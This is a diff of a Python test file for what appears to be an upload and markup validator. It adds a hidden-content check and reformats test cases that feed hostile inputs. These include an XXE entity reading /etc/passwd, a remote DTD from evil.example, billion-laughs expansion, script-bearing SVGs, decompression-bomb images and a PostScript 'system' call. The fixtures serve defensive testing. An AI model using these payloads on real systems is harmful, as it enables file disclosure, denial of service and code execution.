@@ -26,7 +26,7 @@ from district.reading.entry import Head
 from district.reading.markup import Writer
 from district.reading.nodes import parse
 from district.reading.source import Source
-from district.reading.text import HEAD, too_many
+from district.reading.text import HEAD, HIDDEN, too_many
 from district.reading.typing import typed
 from tests.content import CLOCK, lay, page, write
 from tests.hostile.payloads import (
@@ -268,13 +268,20 @@ def _pictures() -> Iterator[Case]:
     yield _file("a.png", hollow_png(2**31 - 1, 2**31 - 1), "P105 P102 P103", "a PNG of the largest size")
     yield _file("a.png", hollow_png(1, 90_000_000), "P105", "a PNG of one column")
     header = jpeg.find(b"\xff\xc0")
-    yield _file("a.jpg", jpeg[: header + 5] + struct.pack(">HH", 65_000, 65_000) + jpeg[header + 9 :], "P105", "a JPEG of 65,000 x 65,000")
+    yield _file(
+        "a.jpg",
+        jpeg[: header + 5] + struct.pack(">HH", 65_000, 65_000) + jpeg[header + 9 :],
+        "P105",
+        "a JPEG of 65,000 x 65,000",
+    )
     yield _file("a.png", picture("PNG", (8, 8), **moving), "P106", "a PNG that moves")
     yield _file("a.webp", picture("WEBP", (8, 8), **moving), "P106", "a WebP that moves")
     yield _file("a.jpg", picture("TIFF"), "P103", "a TIFF")
     yield _file("a.jpg", picture("BMP"), "P103", "a BMP")
     yield _file("a.png", picture("ICO", (16, 16)), "P103", "an icon")
-    yield _file("a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) system", "P103", "a PostScript program")
+    yield _file(
+        "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) system", "P103", "a PostScript program"
+    )
 
 
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
@@ -288,20 +295,33 @@ def _logo(content: str, codes: str, title: str) -> Case:
 def _drawings() -> Iterator[Case]:
     for inner, codes, title in (
         ("<script>alert(1)</script>", "P108", "a script alone"),
-        ("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body></foreignObject>", "P108", "a page"),
+        (
+            "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body></foreignObject>",
+            "P108",
+            "a page",
+        ),
         ("<image href='https://evil.example/x.png'/><path d='M0 0'/>", "P109", "a picture from elsewhere"),
         ("<filter id='f'><feImage href='https://evil.example/x'/></filter><path d='M0 0'/>", "P109", "a filter"),
         ("<style>@import url(https://evil.example/);</style><path d='M0 0'/>", "P108", "rules from elsewhere"),
         ("<iframe/><path d='M0 0'/>", "P109", "a frame"),
-        ("".join(f"<g id='g{n}'>" + f"<use href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 9)) + "<path id='g0' d='M0 0'/>", "P109", "parts of parts"),
+        (
+            "".join(f"<g id='g{n}'>" + f"<use href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 9))
+            + "<path id='g0' d='M0 0'/>",
+            "P109",
+            "parts of parts",
+        ),
         ("<g>" * 5000 + "</g>" * 5000, "P108 P103", "groups without end"),
         ("<path d='" + "M0 0" * 150_000 + "'/>", "P108", "a path of 600 KB"),
     ):
         yield _logo(SVG.format(inner), codes, f"a drawing: {title}")
-    entity = '<!DOCTYPE svg [<!ENTITY {}>]>' + SVG.format("<text>&x;</text>")
+    entity = "<!DOCTYPE svg [<!ENTITY {}>]>" + SVG.format("<text>&x;</text>")
     yield _logo(entity.format('x SYSTEM "file:///etc/passwd"'), "P108", "a drawing: a file as an entity")
     yield _logo(entity.format('a "lol"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;"'), "P108", "a drawing: laughs")
-    yield _logo(entity.format('% x SYSTEM "https://evil.example/x.dtd"> %x; <!ENTITY y "z"'), "P108 P103", "a drawing: a parameter")
+    yield _logo(
+        entity.format('% x SYSTEM "https://evil.example/x.dtd"> %x; <!ENTITY y "z"'),
+        "P108 P103",
+        "a drawing: a parameter",
+    )
     yield _logo("<html><script>alert(1)</script></html>", "P103", "a drawing: a page")
     yield _logo("\x89PNG\r\n", "P103", "a drawing: a PNG")
     yield _logo(SVG.format("<path d='M0 0'/>")[:-6], "P103", "a drawing: cut off")
@@ -392,7 +412,9 @@ def _facts(model: type[Model], text: str, turn: int) -> tuple[str, int, int]:
     changed = {}
     for path, value in paths:
         old = _get(data, path)
-        if old is None or path[-1] in {"code", "vocabulary", "name"} and path[0] in {"languages", "facets", "measures"}:
+        if old is None or (
+            path[-1] in {"code", "vocabulary", "name"} and path[0] in {"languages", "facets", "measures"}
+        ):
             continue
         turn += 1
         new = f"{VALUES[turn % len(VALUES)]} {turn}"
@@ -446,7 +468,13 @@ def _text(text: str, turn: int) -> tuple[str, int, int]:
 def is_taken(piece: str) -> bool:
     """Whether a piece of a text breaks no rule."""
     markup = Writer().write(piece)
-    return not (markup.left_out or markup.refused or markup.targets or too_many(piece))
+    return not (HIDDEN.search(piece) or markup.left_out or markup.refused or markup.targets or too_many(piece))
 
 
-BODIES = (*HTML, *LANGUAGES, *LINES, *(f"[x](<{one}>)" for one in SCHEMES), *(f'<a href="{one}">x</a>' for one in SCHEMES))
+BODIES = (
+    *HTML,
+    *LANGUAGES,
+    *LINES,
+    *(f"[x](<{one}>)" for one in SCHEMES),
+    *(f'<a href="{one}">x</a>' for one in SCHEMES),
+)
